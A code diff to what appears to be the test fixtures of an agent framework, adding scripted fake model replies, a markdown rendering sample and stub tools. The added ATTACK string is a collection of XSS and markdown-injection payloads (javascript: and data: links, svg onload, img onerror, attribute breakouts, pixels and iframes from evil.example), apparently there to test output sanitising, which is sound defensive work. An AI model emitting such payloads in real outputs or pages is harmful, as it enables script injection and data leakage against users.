@@ -13,6 +13,7 @@ import time
 from collections.abc import AsyncGenerator, AsyncIterator
 from contextlib import asynccontextmanager
 from decimal import Decimal
+from typing import Any
 
 from quiesce import Agent, tool
 from quiesce.errors import AuthenticationFailed
@@ -39,6 +40,60 @@ STORY = (
     "were looking for the boat that it belonged to. Nobody came. After a while the first gulls woke up and argued "
     "about the day, and the lamp, which had been so important in the dark, could hardly be seen any more.\n\n"
 )
+
+MARKDOWN = """# The plan
+
+Some *quick* and **important** words, `inline code`, and [a link](https://example.org/page "A page").
+
+1. First
+2. Second
+   - nested
+   - list
+
+| File | Lines |
+|------|------:|
+| `a.py` | 12 |
+| `b.py` | 340 |
+
+> A quote that
+> goes on.
+
+```python
+def add(a: int, b: int) -> int:
+    return a + b
+```
+
+- [x] done
+- [ ] to do
+
+שלום, this line begins from the right.
+"""
+
+ATTACK = f"""{NASTY}
+
+[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) [vb](vbscript:x)
+[case](JaVaScRiPt:window.hacked=1) [tab](java\tscript:window.hacked=1) [entity](javascript&#58;window.hacked=1)
+[rel](/static/main.js) [home](#/usage) [user](https://good.example@evil.example/) <javascript:window.hacked=1>
+![pixel](https://evil.example/pixel.png?secret) ![local](/static/icon.svg) <img src="https://evil.example/p.png">
+<style>body {{ display: none }}</style> <link rel=stylesheet href=https://evil.example/a.css>
+<iframe src="https://evil.example/"></iframe> <svg onload="window.hacked=1"> <a href="javascript:window.hacked=1">a</a>
+[![nested](https://evil.example/n.png)](javascript:window.hacked=1) **[bold](javascript:window.hacked=1)**
+<https://evil.example/"onmouseover="window.hacked=1> https://evil.example/"onclick="window.hacked=1
+
+```html" onclick="window.hacked=1
+<script>window.hacked=1</script>
+```
+
+| <img src=x onerror=window.hacked=1> | [t](javascript:window.hacked=1) |
+|---|---|
+| <script>window.hacked=1</script> | {NASTY} |
+
+# {NASTY}
+
+> {NASTY}
+
+- {NASTY}
+"""
 
 SCRIPTS: dict[str, list[Answer]] = {
     "hello": [[Say("Hello there."), Used(input=12, output=4)]],
@@ -76,6 +131,20 @@ SCRIPTS: dict[str, list[Answer]] = {
     "nasty": [
         [Think(NASTY), Say(NASTY), Call("nasty", {"path": NASTY}), Used(input=10, output=10)],
         [Say(NASTY), Used(input=10, output=10)],
+    ],
+    "markdown": [
+        [
+            Think("A plan is wanted, with a table.", chunk=4, pause=0.15),
+            Say(MARKDOWN, chunk=7, pause=0.01),
+            Call("look_up", {"query": {"name": "plan", "limit": 3}}),
+            Call("patch", {"path": "a.py", "edits": [{"old": "a\nb\nc", "new": "a\nB\nc"}]}),
+            Used(input=90, output=250),
+        ],
+        [Say("Both are **done**."), Used(input=400, output=6)],
+    ],
+    "attack": [
+        [Think(ATTACK), Say(ATTACK), Call("look_up", {"query": {NASTY: ATTACK}}), Used(input=10, output=10)],
+        [Say("It is over."), Used(input=10, output=10)],
     ],
     "deploy": [
         [
@@ -221,7 +290,20 @@ async def nasty(path: str, ctx: ToolContext) -> str:
     return f"wrote {path}"
 
 
-TOOLS = [search, measure, write, deploy, edit, announce, build, stubborn, lagging, flood, nasty]
+@tool
+async def look_up(query: dict[str, Any]) -> dict[str, Any]:
+    """Look something up."""
+    many = {f"key {n}": n for n in range(250)}
+    return {"query": query, "found": [{"name": "plan", "pages": 3, "open": True, "by": None}], "many": many}
+
+
+@tool
+async def patch(path: str, edits: list[dict[str, str]]) -> str:
+    """Change a file, and say how."""
+    return f"--- {path}\n+++ {path}\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n"
+
+
+TOOLS = [search, measure, write, deploy, edit, announce, build, stubborn, lagging, flood, nasty, look_up, patch]
 
 
 def application(*, with_keys: bool) -> Application:
